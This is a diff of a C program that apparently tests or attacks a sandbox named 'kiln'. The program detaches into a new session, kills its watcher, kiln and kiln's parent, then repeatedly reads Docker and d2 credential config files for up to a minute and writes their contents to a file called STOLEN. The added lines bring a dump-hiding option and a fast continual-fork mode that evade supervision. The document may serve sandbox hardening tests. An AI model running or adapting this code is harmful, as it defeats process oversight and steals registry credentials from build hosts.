@@ -2,7 +2,8 @@
  *
  * Gives up a capability so that nobody knows it by those it has, takes a session of its own and two new parents, and
  * kills in the order given: `w` the process that watches over the step, `k` kiln, `p` kiln's parent. Then, for as long
- * as a minute, looks into kiln's credentials, and writes to the file STOLEN what it finds there.
+ * as a minute, looks into kiln's credentials, and writes to the file STOLEN what it finds there. With an `h` at the end
+ * nobody sees its root; with an `f` it is always another process, as fast as can be.
  */
 #include <fcntl.h>
 #include <signal.h>
@@ -10,6 +11,7 @@
 #include <stdlib.h>
 #include <string.h>
 #include <sys/prctl.h>
+#include <time.h>
 #include <unistd.h>
 
 static int parent_of(int pid)
@@ -32,11 +34,13 @@ static int parent_of(int pid)
 int main(int count, char **words)
 {
 	const char *places[] = {"/kiln/.docker/config.json", "/kiln/.d2/config.json"};
-	int watcher = getppid(), kiln = parent_of(watcher), keeper = parent_of(kiln), try;
+	int watcher = getppid(), kiln = parent_of(watcher), keeper = parent_of(kiln), try, is_fast;
+	time_t end = time(NULL) + 60;
 	char text[4096];
 
 	if (count != 4)
 		return 2;
+	is_fast = strchr(words[1], 'f') != NULL;
 	prctl(PR_CAPBSET_DROP, 0, 0, 0, 0);
 	if (fork() > 0) {
 		pause();
@@ -46,9 +50,11 @@ int main(int count, char **words)
 	if (fork() > 0)
 		_exit(0);
 	usleep(100000);
-	for (const char *whom = words[1]; *whom; whom++)
+	for (const char *whom = words[1]; *whom && strchr("wkp", *whom); whom++)
 		kill(*whom == 'w' ? watcher : *whom == 'k' ? kiln : keeper, SIGKILL);
-	for (try = 0; try < 60000; try++) {
+	if (strchr(words[1], 'h'))
+		prctl(PR_SET_DUMPABLE, 0, 0, 0, 0);
+	for (try = 0; try < (is_fast ? 6000000 : 60000) && time(NULL) < end; try++) {
 		for (size_t place = 0; place < sizeof places / sizeof *places; place++) {
 			int file = open(places[place], O_RDONLY | O_NONBLOCK);
 			ssize_t length = file < 0 ? -1 : read(file, text, sizeof text - 1);
@@ -63,7 +69,8 @@ int main(int count, char **words)
 		if (fork() > 0)
 			_exit(0); /* always another process */
 		setsid();
-		usleep(1000);
+		if (!is_fast)
+			usleep(1000);
 	}
 	return 0;
 }
